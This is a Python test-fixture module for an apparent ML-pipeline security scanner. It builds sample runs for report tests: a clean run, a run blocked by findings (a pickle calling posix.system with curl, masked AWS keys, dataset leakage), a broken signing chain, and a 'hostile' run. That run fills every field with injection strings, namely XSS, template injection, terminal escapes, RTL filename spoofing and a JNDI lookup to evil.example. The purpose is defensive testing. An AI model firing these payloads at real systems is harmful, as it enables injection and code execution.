"""Runs as the engine leaves them, for the tests of the reports: one that passes and the ways in which one does not."""

from __future__ import annotations

import hashlib
from collections.abc import Iterable
from dataclasses import replace
from datetime import UTC, datetime, timedelta

from shipworthy.model import (
    Artifact,
    CheckResult,
    Column,
    Confidence,
    DatasetFacts,
    Disposition,
    Finding,
    GateDecision,
    Kind,
    Metric,
    Outcome,
    Reason,
    Rule,
    Run,
    Severity,
    Skipped,
    StageResult,
    Status,
    Trigger,
)

START = datetime(2026, 11, 20, 9, 14, 7, tzinfo=UTC)
COMMIT = "3f9c2ab81d5e64f07c9b1e0a7d8843f2c6b5a091"


def digest(text: str) -> str:
    return "sha256:" + hashlib.sha256(text.encode()).hexdigest()


def artifact(uri: str, kind: Kind, size: int = 4096, media_type: str = "text/plain") -> Artifact:
    return Artifact(uri, kind, digest(uri), size, media_type)


TRAIN = artifact("data/train.csv", Kind.DATASET, 8_412_903, "text/csv")
TEST = artifact("data/test.csv", Kind.DATASET, 1_204_118, "text/csv")
BASE = artifact("models/base/encoder.safetensors", Kind.MODEL, 91_203_584, "application/octet-stream")
TORN = artifact("models/base/tokenizer.pkl", Kind.MODEL, 48_112, "application/octet-stream")
MODEL = artifact("model/spam.safetensors", Kind.MODEL, 91_411_020, "application/octet-stream")
CODE = artifact("train.py", Kind.CODE, 5_120, "text/x-python")
EVAL = artifact("evaluate.py", Kind.CODE, 3_090, "text/x-python")
BOOK = artifact("notebooks/explore spam.ipynb", Kind.NOTEBOOK, 220_110, "application/x-ipynb+json")
REQS = artifact("requirements.txt", Kind.REQUIREMENTS, 412)
CONFIG = artifact("config/settings.yaml", Kind.TEXT, 980)
BUCKET = Artifact("s3://models/base/v3/encoder.onnx", Kind.MODEL, digest("bucket"), 12_900_112, "application/onnx")
SOURCES = (CODE, EVAL, BOOK, REQS, CONFIG, TRAIN, TEST, BASE, TORN)

PICKLE = Rule(
    "pickle-code-import",
    title="Loading the file runs code",
    severity=Severity.CRITICAL,
    description="A pickle can call any function when it is loaded. This one imports a function that starts programs, "
    "so whoever made the file decides what runs on the machine that loads it.",
    remedy="Do not load the file. Ask for the weights as safetensors, or rebuild them from a source that you trust.",
    taxonomy=("CWE-502", "AML.T0010", "LLM03:2025"),
    help="model-serialisation",
)
SECRET = Rule(
    "aws-access-key",
    title="An AWS access key is in the tree",
    severity=Severity.HIGH,
    description="Everybody who can read the repository can use the key, and it stays in the history after removal.",
    remedy="Revoke the key at the provider first, then remove it and load it from the environment.",
    taxonomy=("CWE-798",),
    help="secrets-in-code",
)
VULNERABLE = Rule(
    "vulnerable-dependency",
    title="A dependency has a known vulnerability",
    severity=Severity.MEDIUM,
    description="The pinned version is listed in an advisory; how bad it is depends on whether the code is reached.",
    remedy="Raise the pin to a version that is not affected.",
    taxonomy=("CWE-1395",),
    help="vulnerable-dependencies",
)
DUPLICATES = Rule(
    "dataset-leakage",
    title="Test rows are in the training data",
    severity=Severity.MEDIUM,
    description="A model that has seen its test rows scores better than it is.",
    remedy="Remove the shared rows from the training data and evaluate again.",
    confidence=Confidence.MEDIUM,
    taxonomy=("AML.T0020",),
    help="data-leakage",
)
OUTPUTS = Rule(
    "notebook-output",
    title="The notebook keeps its outputs",
    severity=Severity.INFO,
    description="Outputs can hold rows of private data, and make changes hard to review.",
    remedy="Clear the outputs before committing.",
    help="notebook-hygiene",
)
YAML = Rule(
    "unsafe-yaml-load",
    title="YAML is loaded with a loader that builds objects",
    severity=Severity.LOW,
    description="A YAML document can name Python classes; this loader makes them.",
    remedy="Use yaml.safe_load.",
    taxonomy=("CWE-502",),
    help="unsafe-deserialization",
)


def check(
    name: str, category: str, findings: Iterable[Finding] = (), examined: Iterable[Artifact] = (), **more: object
) -> CheckResult:
    seen = frozenset(item.uri for item in examined)
    labelled = tuple(finding.with_(check=name, category=category) for finding in findings)
    base = CheckResult(name, category, "1", Outcome.RAN, labelled, seen, len(seen), seconds=0.42)
    return replace(base, **more)  # type: ignore[arg-type]


def stage(name: str, minute: float, status: Status = Status.PASSED, **more: object) -> StageResult:
    base = StageResult(name, status, START + timedelta(minutes=minute), seconds=12.5)
    return replace(base, **more)  # type: ignore[arg-type]


def waived() -> Finding:
    return YAML.at(CODE, "yaml.load without SafeLoader", line=41, column=9, evidence="yaml.load(stream)").with_(
        disposition=Disposition.WAIVED,
        waiver="accepted by platform@example.org until 2027-01-31: the file is written by this job itself",
    )


def dataset_facts(item: Artifact, rows: int) -> DatasetFacts:
    columns = (Column("text", "text", 3, 10_000, True), Column("label", "text", 0, 2))
    return DatasetFacts(item, "csv", "utf-8", rows, 2, columns, "label", (("ham", rows - 100), ("spam", 100)))


def scan_checks() -> tuple[CheckResult, ...]:
    """A scan with small things only: nothing that stops a gate."""
    known = OUTPUTS.at(BOOK, "7 of 31 cells keep their output", cell=3).with_(disposition=Disposition.KNOWN)
    return (
        check("secrets", "secrets", (), SOURCES, seconds=2.11),
        check("python-code", "code", (waived(),), (CODE, EVAL), cached=1),
        check("notebook-outputs", "notebooks", (known,), (BOOK,)),
        check(
            "known-vulnerabilities",
            "dependencies",
            (
                VULNERABLE.at(
                    REQS,
                    "requests 2.31.0: CVE-2024-35195, fixed in 2.32.0",
                    line=4,
                    field="requests",
                    evidence="requests==2.31.0",
                    key="CVE-2024-35195 requests",
                    severity=Severity.LOW,
                    witness="osv",
                ),
            ),
            (REQS,),
        ),
        check(
            "dataset-quality",
            "datasets",
            (),
            (TRAIN, TEST),
            seconds=8.0,
            facts=(dataset_facts(TRAIN, 2400), dataset_facts(TEST, 600)),
        ),
        check("model-files", "models", (), (BASE, TORN)),
        check("dockerfile-user", "code", outcome=Outcome.NOT_APPLICABLE),
    )


def metrics() -> tuple[Metric, ...]:
    return (
        Metric("accuracy", 0.947, 0.936, 0.957, 2400, "Wilson 95 %"),
        Metric("robust_accuracy", 0.731, 0.709, 0.752, 1600, "Wilson 95 %"),
        Metric("membership_auc", 0.521, 0.498, 0.544, 3000, "bootstrap 95 %"),
        Metric("fairness_gap", 0.034, 0.011, 0.058, 2400, "bootstrap 95 %"),
    )


def chain(broken: bool = False) -> list[dict[str, object]]:
    at = [(START + timedelta(minutes=n)).isoformat() for n in range(9)]
    links: list[dict[str, object]] = [
        {"step": "dataset", "name": TRAIN.uri, "digest": TRAIN.digest, "signer": "data@example.org", "time": at[0]},
        {"step": "code", "name": COMMIT[:12], "digest": digest("tree"), "signer": "ada@example.org", "time": at[1]},
        {"step": "train", "name": "train.py", "digest": digest("trainlink"), "signer": "ci@example.org", "time": at[2]},
        {"step": "model", "name": MODEL.uri, "digest": MODEL.digest, "signer": "ci@example.org", "time": at[3]},
        {
            "step": "evaluation",
            "name": "metrics.json",
            "digest": digest("m"),
            "signer": "ci@example.org",
            "time": at[4],
        },
        {"step": "scan", "name": "41 checks", "digest": digest("scan"), "signer": "ci@example.org", "time": at[5]},
        {"step": "gate", "name": "before-sign", "digest": digest("gate"), "signer": "ci@example.org", "time": at[6]},
        {
            "step": "signature",
            "name": "release key",
            "digest": digest("s"),
            "signer": "release@example.org",
            "time": at[7],
        },
        {"step": "store", "name": "oci://registry.example.org/models/spam", "digest": MODEL.digest, "time": at[8]},
    ]
    for link in links:
        link["status"] = "ok"
    if broken:
        links[8] |= {
            "status": "broken",
            "expected": MODEL.digest,
            "actual": digest("another model"),
            "remedy": "The stored model is not the one that was signed. Take it out of service and store it again.",
        }
    return links


def passing() -> Run:
    """Ten stages, all passed; one waived, one known and one low finding."""
    checks = scan_checks()
    fresh = tuple(f.fingerprint for c in checks for f in c.findings if f.disposition is Disposition.NEW)
    accepted = tuple(f.fingerprint for c in checks for f in c.findings if f.disposition is Disposition.WAIVED)
    before_train = GateDecision(
        "before-train", True, new=fresh, waived=accepted, notes=("fail-on: high; 1 finding below it",)
    )
    models = (check("model-files", "models", (), (MODEL,)), check("model-weights", "models", (), (MODEL,)))
    stages = (
        stage("trigger", 0, seconds=0.1),
        stage("load", 0.1, artifacts=SOURCES, outputs={a.uri: a.digest for a in (TRAIN, TEST, BASE)}),
        stage("scan", 1, checks=checks, seconds=31.0),
        stage("before-train", 2, decision=before_train, seconds=0.01),
        stage(
            "train",
            2.1,
            seconds=412.0,
            inputs={TRAIN.uri: TRAIN.digest, CODE.uri: CODE.digest, BASE.uri: BASE.digest},
            outputs={MODEL.uri: MODEL.digest},
            artifacts=(MODEL,),
            details={
                "folds": [
                    {"fold": n + 1, "accuracy": a, "f1": a - 0.02}
                    for n, a in enumerate((0.941, 0.952, 0.948, 0.939, 0.950))
                ],
                "parameters": {"learning_rate": 0.0003, "epochs": 8, "batch_size": 64, "early_stopping": True},
                "packages": {"numpy": "2.1.3", "requests": "2.31.0", "safetensors": "0.5.2", "scikit-learn": "1.6.0"},
                "sandbox": {"kind": "bubblewrap", "network": False},
            },
        ),
        stage(
            "evaluate",
            9,
            metrics=metrics(),
            seconds=64.0,
            inputs={MODEL.uri: MODEL.digest, TEST.uri: TEST.digest},
            outputs={"metrics.json": digest("m")},
        ),
        stage("model-scan", 10.5, checks=models),
        stage(
            "before-sign",
            11,
            decision=GateDecision("before-sign", True),
            details={"rules": ["metric('accuracy').low >= 0.90", "metric('robust_accuracy').low >= 0.70"]},
        ),
        stage("sign", 11.1, inputs={MODEL.uri: MODEL.digest}, outputs={"model.sig": digest("s")}),
        stage("store", 11.4, inputs={MODEL.uri: MODEL.digest}, details={"chain": chain()}),
    )
    return Run(
        id="20261120-091407-3f9c2ab8",
        pipeline="ml",
        project="spam-filter",
        trigger=Trigger("merge", COMMIT, "main", "Ada Pereira <ada@example.org>"),
        settings_digest=digest("settings"),
        started=START,
        seconds=702.4,
        stages=stages,
        versions={"shipworthy": "0.1.0", "python": "3.11.7", "kingfisher": "2.14.0", "ruff": "0.17.6"},
    )


def bad_findings() -> tuple[Finding, ...]:
    return (
        PICKLE.at(
            TORN,
            "imports posix.system and calls it",
            offset=128,
            member="archive/data.pkl",
            evidence="posix.system('curl …')",
            witness="shipworthy",
        ).with_(witnesses=("shipworthy", "modelscan")),
        SECRET.at(CONFIG, "AKIA… in aws.access_key", line=12, column=15, evidence="AKIA******* (20 characters)"),
        SECRET.at(BOOK, "AKIA… printed by a cell", cell=7, line=2, evidence="AKIA******* (20 characters)"),
        DUPLICATES.at(TRAIN, "214 of 6,020 test rows are also training rows", row=88, field="text"),
    )


def stopped() -> Run:
    """The gate before training says no; the rest is not reached, and two stages are not built."""
    base = passing()
    bad = bad_findings()
    checks = tuple(
        replace(c, findings=c.findings + tuple(f.with_(check=c.check, category=c.category) for f in extra))
        for c, extra in zip(scan_checks(), (bad[1:3], (), (), (), bad[3:], bad[:1], ()), strict=True)
    )
    checks += (
        check(
            "image-scan",
            "dependencies",
            outcome=Outcome.UNAVAILABLE,
            note="trivy is not installed",
            remedy="install trivy 0.60 or newer",
            eligible=1,
        ),
        check(
            "notebook-code",
            "notebooks",
            outcome=Outcome.FAILED,
            note="ruff ended with status 2 and an empty report",
            remedy="run `shipworthy doctor`",
            eligible=1,
            skipped=(Skipped(BOOK, "the tool gave no report", "notebook-code"),),
        ),
        check(
            "dataset-poisoning",
            "datasets",
            (),
            (TEST,),
            outcome=Outcome.PARTIAL,
            eligible=2,
            note="1 of 2 data sets is larger than the limit",
            remedy="raise checks.dataset-poisoning.limit",
            skipped=(Skipped(TRAIN, "larger than 8 MB (8,412,903 bytes)", "dataset-poisoning"),),
        ),
    )
    decision = GateDecision(
        "before-train",
        False,
        reasons=(
            Reason(
                "fail-on",
                "3 new findings are high or worse",
                "Fix them, or waive each with an owner, a reason and an end date.",
                tuple(f.fingerprint for f in bad[:3]),
            ),
            Reason(
                "coverage",
                "`notebook-code` is required and failed",
                "Make the check run, or take it from `require`.",
            ),
        ),
        new=tuple(f.fingerprint for f in bad),
        waived=(waived().fingerprint,),
        uncovered=("notebook-code: notebooks/explore spam.ipynb", "dataset-poisoning: data/train.csv"),
        notes=("the waiver of `dockerfile-root-user` (deploy/Dockerfile) expired on 2026-10-31",),
    )
    later = [replace(s, status=Status.SKIPPED, seconds=0, checks=(), metrics=(), decision=None, inputs={}, outputs={},
                     artifacts=(), details={}, note="not reached") for s in base.stages[4:]]  # fmt: skip
    later[2] = replace(later[2], status=Status.NOT_BUILT, note="this version does not have the stage yet")
    stages = (
        *base.stages[:2],
        replace(base.stages[2], checks=checks, status=Status.PASSED),
        replace(
            base.stages[3],
            status=Status.FAILED,
            decision=decision,
            note="3 new findings are high or worse, 1 required check did not run",
            remedy="see the reasons of the gate",
            exit_code=1,
        ),
        *later,
    )
    return replace(base, id="20261120-101122-3f9c2ab8", stages=stages, seconds=44.1, exit_code=1)


def broken_chain() -> Run:
    """All was signed, and what is stored is something else."""
    base = passing()
    store = replace(
        base.stages[9],
        status=Status.FAILED,
        note="the stored model is not the signed one",
        remedy="take it out of service and store it again",
        exit_code=4,
        details={"chain": chain(broken=True)},
    )
    return replace(base, id="20261120-120000-3f9c2ab8", stages=(*base.stages[:9], store), exit_code=4)


def coverage_failure() -> Run:
    """Nothing wrong was seen, because a model file could not be read."""
    base = passing()
    unread = check(
        "model-files",
        "models",
        (),
        (BASE,),
        outcome=Outcome.PARTIAL,
        eligible=2,
        note="1 of 2 model files could not be read",
        skipped=(Skipped(TORN, "the pickle ends in the middle of an opcode", "model-files"),),
    )
    checks = tuple(unread if c.check == "model-files" else c for c in scan_checks())
    decision = GateDecision(
        "before-train",
        False,
        reasons=(Reason("coverage", "1 model file was read by no check", "Replace the file, or accept it by name."),),
        uncovered=(f"model-files: {TORN.uri}",),
        coverage_only=True,
    )
    stages = (
        *base.stages[:2],
        replace(base.stages[2], checks=checks),
        replace(base.stages[3], status=Status.FAILED, decision=decision, note="1 model file was not read", exit_code=3),
    )
    return replace(base, id="20261120-130000-3f9c2ab8", stages=stages, exit_code=3)


def empty() -> Run:
    """Nothing was run: the least that a report must survive."""
    return Run("empty", "scan", "nothing", Trigger(), digest("none"), START)


HOSTILE = (
    "</script><script>alert(1)</script>",
    "javascript:alert(1)",
    "<img src=x onerror=alert(1)>",
    "]]></failure><failure message='x'>",
    "\x1b[2J\x1b]0;owned\x07",
    "[click](https://evil.example/x) @everyone #1 `code` | pipe\n## heading",
    "--><!--",
    "{{ 7*7 }}{% raw %}",
    "\u202egnp.exe\u2066",
    "[bold red]markup[/bold red]",
    "\x00\x01\x7f\x9b\ufffe\ud800",
    "a" * 5000,
    "&lt;b&gt; &amp; \"quotes\" 'single'",
    "${jndi:ldap://evil.example/a} {0} %s",
)


def hostile() -> Run:
    """Everything that comes from outside holds something that wants to be more than text."""
    findings = []
    artifacts = []
    for number, text in enumerate(HOSTILE):
        uri = f"in/{number} {text[:200]}".replace("\ud800", "%ED")
        item = Artifact(uri, Kind.CODE, digest(uri), 1, text[:50])
        artifacts.append(item)
        rule = Rule(f"rule-{number}", text, Severity.HIGH, text, text, taxonomy=("CWE-79", text[:100]), help=text[:40])
        findings.append(
            rule.at(
                item,
                text,
                evidence=text,
                remedy=text,
                witness=text[:50],
                line=number + 1,
                member=text[:60],
                field=text[:60],
            )
        )
    text = " ".join(HOSTILE[:11])
    odd = check(
        HOSTILE[0][:40],
        HOSTILE[2],
        findings,
        artifacts,
        outcome=Outcome.PARTIAL,
        note=text,
        remedy=text,
        skipped=tuple(Skipped(a, a.uri, "x") for a in artifacts[:3]),
        facts=tuple(
            DatasetFacts(a, "csv", t, 1, 1, (Column(t, "mixed", 1, 1),), t, ((t, 1),), (t,))
            for a, t in zip(artifacts, HOSTILE, strict=True)
        ),
    )
    decision = GateDecision(
        text, False, (Reason(text, text, text, (findings[0].fingerprint, text)),), uncovered=(text,), notes=(text,)
    )
    links: list[object] = [
        {"step": t, "name": t, "digest": t, "signer": t, "time": t, "status": t, "expected": t} for t in HOSTILE
    ]
    stages = (
        stage(
            text,
            0,
            Status.ERROR,
            checks=(odd,),
            artifacts=tuple(artifacts),
            note=text,
            remedy=text,
            inputs={text: text},
        ),
        stage(
            "g<b>", 1, Status.FAILED, decision=decision, details={"chain": [*links, "no mapping", 7], text[:50]: text}
        ),
        stage(
            "m",
            2,
            metrics=(
                Metric(text[:80], float("nan"), float("-inf"), float("inf"), -1, text),
                Metric("", 1e308, 2, -3, 0),
            ),
            details={
                "folds": [{"fold": text, text[:30]: 1.0}, 3, text, float("nan")],
                "parameters": {text: text},
                "packages": {text[:30]: text[:30], "requests": "1"},
                "rules": [text, 7],
            },
        ),
    )
    return Run(
        text, "scan", text, Trigger(text, text, text, text, True, text), text, START, 1.0, stages, {text: text}, 1
    )


def many(count: int = 2000) -> Run:
    """As many findings as a first scan of a large repository gives."""
    rules = (PICKLE, SECRET, VULNERABLE, DUPLICATES, OUTPUTS, YAML)
    categories = ("models", "secrets", "dependencies", "datasets", "notebooks", "code")
    files = [artifact(f"src/package_{n % 40}/module_{n}.py", Kind.CODE) for n in range(count // 5)]
    found: dict[str, list[Finding]] = {name: [] for name in categories}
    for n in range(count):
        kind = (n * n + n // 3) % 6
        found[categories[kind]].append(
            rules[kind].at(
                files[n % len(files)],
                f"{rules[kind].title} in function number {n}",
                line=n % 900 + 1,
                column=n % 60 + 1,
                evidence=f"value_{n} = load(path_{n}, options={{'strict': False}})",
            )
        )
    checks = tuple(check(f"{name}-check", name, items, files) for name, items in found.items())
    stages = (
        stage("load", 0, artifacts=tuple(files)),
        stage("scan", 1, Status.FAILED, checks=checks, exit_code=1, note=f"{count} findings"),
    )
    return replace(passing(), id="many", pipeline="scan", stages=stages, exit_code=1)


ALL = {
    "passing": passing,
    "stopped": stopped,
    "broken-chain": broken_chain,
    "coverage": coverage_failure,
    "empty": empty,
    "hostile": hostile,
    "many": many,
}
